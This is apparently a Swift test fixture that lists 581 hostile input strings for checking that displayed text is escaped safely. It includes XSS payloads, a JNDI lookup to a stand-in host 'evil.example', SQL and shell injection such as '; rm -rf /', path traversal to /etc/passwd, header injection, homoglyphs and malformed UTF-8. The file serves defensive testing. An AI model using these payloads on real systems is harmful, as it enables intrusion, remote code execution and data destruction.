import SillarTesting

/// Texts that try to be more than text where they are shown. None contains U+0000, which has tests of its own.
enum HostileTexts {
  /// 581 texts: those below, and pairs of them.
  static var all: [[UInt8]] {
    var all = (written + scalars).map { Array($0.utf8) } + notUTF8
    var chance = SeededChance(seed: 581)
    while all.count < 581 {
      let pair = [0, 1].flatMap { _ in all.randomElement(using: &chance) ?? [] }
      if !all.contains(pair) { all.append(pair) }
    }
    return all
  }

  private static let written = elements + breaks + addresses + templates + entities + others

  private static let elements = [
    "script", "img", "svg", "iframe", "math", "object", "style", "body", "details", "base", "meta",
    "template", "noscript", "form", "video", "plaintext",
  ].flatMap {
    [
      "<\($0)>", "</\($0)>", "<\($0)/onload=alert(1)>", "<\($0) src=x onerror=alert(1)",
      "<\($0.uppercased()) ONFOCUS='alert(1)' autofocus>alert(1)</\($0)>",
    ]
  }

  private static let breaks = [
    "\"", "'", "`", ">", "\">", "'>", "\"/>", "</textarea>", "</title>", "</noscript>", "-->",
    "]]>",
    "</form></main>", "\n\n", "/",
  ].flatMap {
    [
      "\($0)<script>alert(1)</script>", "\($0) onfocus=alert(1) autofocus x=\($0)",
      "x\($0) style=position:fixed;inset:0 \($0)", "\($0)<!--", "\($0)<b id=back name=token>",
    ]
  }

  private static let addresses = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\u{1}javascript:alert(1)", "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example",
    "\\\\evil.example", "https:evil.example", "view-source:javascript:1", "blob:null",
  ].flatMap {
    [$0, "<a href=\($0)>", "\"><a href=\"\($0)\">x</a>", "[x](\($0))", "url(\($0))"]
  }

  private static let templates = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{name}", "{count}", "{{name}}", "%@", "%s%n%x",
    "%1$s", "{% raw %}", "[[${7*7}]]", "@(7*7)", "*{7*7}", "~{x}", "\\(name)", "$(id)", "`id`",
    "{{constructor.constructor('alert(1)')()}}", "${jndi:ldap://evil.example/a}",
  ]

  private static let entities = [
    "&lt;script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&#0000060", "&lt", "&amp;lt;",
    "&amp;amp;lt;", "&quot;", "&#39; onfocus=", "&NewLine;", "&Tab;", "&colon;", "&#0;", "&#xD800;",
    "&#x110000;", "&nbsp", "&bogus;", "&", "&&&&", "&#", "&#x",
  ]

  private static let others = [
    // Texts that are JSON, JavaScript, headers, statements or paths elsewhere.
    "\",\"e\":1}", "\\\",\"e\":1}", "</script><!--<script>", "\\u003cscript\\u003e", "\\x3cb\\x3e",
    "\\", "\\\"", "';alert(1)//", "*/alert(1)/*", "\r\nSet-Cookie: a=b", "\r\n\r\n<html>",
    "' OR 1=1 --", "; rm -rf /", "../../etc/passwd", "token=1&e=0", "f1=x&f2=y", "+%3Cb%3E",
    // Characters that look like those of markup.
    "＜script＞alert(1)＜/script＞", "﹤img src=x﹥", "‹b›", "ʺ onfocus=1", "＂ onfocus=1", "ſcript",
    "<ſcript>", "<ıframe>", "İ<b>", "Kelvin \u{212A}", "аdmin", "раypal.com", "ⅰⅿɡ", "ﬁ<b>", "ß<b>",
    // Long, or many characters in one.
    String(repeating: "<", count: 400), String(repeating: "\"'", count: 200),
    "a" + String(repeating: "\u{301}", count: 200) + "<b>", "\u{FEFF}<b>", "\u{2028}<b>\u{2029}",
    "\u{200B}<\u{200B}b>", "👩‍👩‍👧‍👦<b>", "\u{FFFE}<b>", "\u{10FFFF}<b>", "\u{E000}<b>", "<\u{338}b>",
    "\"\u{301} onfocus=1", "&\u{301}lt;", "e\u{301}<b>", "\u{E003C}b\u{E003E}",
  ]

  /// Controls, and what changes the direction of the text.
  private static let scalars =
    (Array(1...31) + Array(127...159)
    + [
      0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069, 0x200E, 0x200F, 0x61C,
    ])
    .compactMap { Unicode.Scalar($0).map { "a\($0)<b>\($0)\" x=" } }

  /// The characters of markup in more bytes than they have, surrogates, and pieces of characters.
  private static let notUTF8: [[UInt8]] =
    "<>\"'&/".utf8.flatMap { byte -> [[UInt8]] in
      let (high, low) = (byte >> 6, 0x80 | byte & 0x3F)
      return [[0xC0 | high, low], [0xE0, 0x80 | high, low], [0xF0, 0x80, 0x80 | high, low]]
        .map { $0 + Array("script ".utf8) + $0 }
    }
    + [
      [0xC3], [0xE2, 0x82], [0xF0, 0x9F, 0x98], [0xFF], [0xFE],
      [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80],
      [0xF4, 0x90, 0x80, 0x80], [0x80],
    ].map { $0 + Array("<b>\" x=".utf8) }
}
